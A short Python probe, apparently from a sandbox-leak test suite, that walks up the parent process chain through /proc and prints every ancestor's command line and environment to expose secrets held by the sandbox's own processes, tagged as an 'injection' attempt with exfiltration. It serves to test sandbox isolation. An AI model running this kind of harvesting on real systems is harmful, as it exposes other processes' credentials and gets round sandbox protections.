# family: injection
# tries: walk up the parent chain through /proc (PPid) and print every ancestor's environment and command line: the sandbox's own processes hold the caller's secrets
# source: none
# exfil: yes
# stopped-when: canary-unread
# attempted-when: marker
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)


def ppid(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("PPid:"):
                return int(line.split()[1])
    return 0


pid = ppid("self")
for _ in range(20):
    if pid <= 0:
        break
    for what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as f:
                text = f.read(1 << 16).replace(b"\0", b"\n").decode(errors="replace")
            print(f"--- {pid} {what}\n{text}")
        except OSError as e:
            print(f"--- {pid} {what}: {e.strerror}")
    try:
        pid = ppid(pid)
    except OSError:
        break
